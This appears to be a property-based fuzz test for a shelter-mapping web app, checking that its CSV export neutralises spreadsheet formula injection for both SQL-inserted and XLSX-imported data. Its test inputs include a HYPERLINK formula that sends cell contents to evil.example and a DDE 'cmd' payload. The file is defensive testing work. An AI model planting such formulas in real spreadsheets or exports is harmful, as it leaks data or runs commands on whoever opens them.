import { afterAll, beforeAll, describe, expect, it } from "vitest";
import fc from "fast-check";
import { parse } from "csv-parse/sync";
import { startWorld, type World } from "../support/world.ts";
import { sharedStringsPart, sheetPart, workbook, xmlText } from "../support/workbook_zip.ts";

/**
 * Texts that spreadsheets take for formulas, however they got in (plain SQL, an XLSX import whose
 * cells hold formulas): the CSV export, read back by csv-parse, holds every text cell beginning with
 * = + - @ tab or CR with a leading ', every other text unchanged, and every number as the number.
 * `FUZZ_RUNS=full` runs 10 times as many cases.
 */
const RUNS = process.env.FUZZ_RUNS === "full" ? 300 : 30;

let w: World;
beforeAll(async () => {
  w = await startWorld();
});
afterAll(() => w?.close());

const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\r\n", "=-", "'=", " =", "＝", "﹢"];
const BODIES = ['HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "cmd|' /C calc'!A0", "1+1", "3 号仓库", "SUM(A1:A9)", "", '"', ",", ";", "\n", "应急"];
const text = fc
  .oneof(
    { weight: 4, arbitrary: fc.tuple(fc.constantFrom(...FORMULA_STARTS), fc.constantFrom(...BODIES)).map(([a, b]) => a + b) },
    { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 20 }) },
    { weight: 1, arbitrary: fc.string({ unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", '"', ",", "a", "号", " "), maxLength: 8 }) },
  )
  .map((s) => s.replace(/\u0000/g, "")); // PostgreSQL text holds no NUL
const number = fc.oneof(fc.double({ noNaN: true, noDefaultInfinity: true, min: -1e6, max: 1e6 }), fc.constantFrom(-0.5, -3, 0, 1e-7));

/** A text a workbook cell can hold (XML 1.0 §2.2) that is not blank. */
const xmlLegal = text.filter((s) => !/[\u0001-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/.test(s) && s.trim() !== "");

/** The OWASP rule, written here independently of the product. */
const neutralised = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);

async function exportedById(): Promise<Map<string, Record<string, string>>> {
  const res = await w.fetch(`${w.base}/api/v1/layers/shelters/export?format=csv`);
  expect(res.status).toBe(200);
  const rows = parse((await res.text()).replace(/^\uFEFF/, ""), { columns: true }) as Record<string, string>[];
  return new Map(rows.map((r) => [r.id!, r]));
}

describe("fuzz: formula cells in CSV exports", () => {
  it(`texts written by SQL (${RUNS} cases)`, async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(text, text, fc.array(text, { maxLength: 3 }), number, fc.double({ min: -180, max: 180, noNaN: true })), {
          minLength: 1,
          maxLength: 8,
        }),
        async (rows) => {
          await w.db("shelters").del();
          for (const [name, address, facilities, area, lon] of rows) {
            // a name may not be blank: 号 after it keeps how it begins
            await w.db.raw(
              "INSERT INTO shelters (name, address, facilities, capacity, effective_area_m2, geom) VALUES (?, ?, ?, 10, ?, ST_SetSRID(ST_MakePoint(?, -33.5), 4326))",
              [`${name}号`, address, facilities, Math.abs(area), lon],
            );
          }
          // what PostgreSQL holds (a lone surrogate arrives as U+FFFD), not what was sent, is the truth
          const held = await w.db("shelters").select("id", "name", "address", "facilities", "effective_area_m2", w.db.raw("ST_X(geom) AS lon"));
          const exported = await exportedById();
          expect(exported.size).toBe(held.length);
          for (const h of held) {
            const e = exported.get(String(h.id))!;
            expect(e.name).toBe(neutralised(h.name));
            expect(e.address).toBe(h.address === null ? "" : neutralised(h.address));
            expect(e.facilities).toBe(h.facilities === null ? "" : neutralised(h.facilities.join(";")));
            expect(Number(e.effective_area_m2)).toBe(h.effective_area_m2);
            expect(Number(e.lon)).toBe(h.lon);
            expect(e.lat).toBe("-33.5");
          }
        },
      ),
      { numRuns: RUNS },
    );
  }, 300_000);

  it(`formula cells of an imported workbook arrive as their results, and leave neutralised (${RUNS} cases)`, async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(xmlLegal, fc.constantFrom('HYPERLINK("http://evil.example/?x="&A1,"x")', "1+1", "A1")), { minLength: 1, maxLength: 5 }),
        async (cells) => {
          await w.db("shelters").del();
          // the name a formula whose last result is the text; capacity a formula whose result is a number
          const rows = cells.map(
            ([result, formula], i) =>
              `<row r="${i + 2}"><c r="A${i + 2}" t="str"><f>${xmlText(formula)}</f><v>${xmlText(result)}</v></c><c r="B${i + 2}"><f>1+1</f><v>${i + 10}</v></c><c r="C${i + 2}" t="s"><v>0</v></c><c r="D${i + 2}"><v>30.5</v></c></row>`,
          );
          const file = workbook(
            sheetPart(
              `<row r="1"><c r="A1" t="inlineStr"><is><t>名称</t></is></c><c r="B1" t="inlineStr"><is><t>容纳人数</t></is></c><c r="C1" t="inlineStr"><is><t>经度</t></is></c><c r="D1" t="inlineStr"><is><t>纬度</t></is></c></row>${rows.join("")}`,
            ),
            sharedStringsPart(["104.5"]),
          );
          const res = await w.fetch(`${w.base}/api/v1/layers/shelters/import?format=xlsx`, { method: "POST", body: new Uint8Array(file) });
          const body = await res.json();
          expect(res.status, JSON.stringify(body)).toBe(200);
          const held = await w.db("shelters").select("id", "name", "capacity").orderBy("id");
          expect(held.map((h) => h.capacity)).toEqual(cells.map((_, i) => i + 10));
          // XML reads a CR as a line feed (XML 1.0 §2.11); the schema trims names
          expect(held.map((h) => h.name)).toEqual(cells.map(([result]) => result.replace(/\r\n?/g, "\n").trim()));
          const exported = await exportedById();
          for (const h of held) {
            expect(exported.get(String(h.id))!.name).toBe(neutralised(h.name));
            expect(exported.get(String(h.id))!.capacity).toBe(String(h.capacity));
          }
        },
      ),
      { numRuns: RUNS },
    );
  }, 300_000);
});
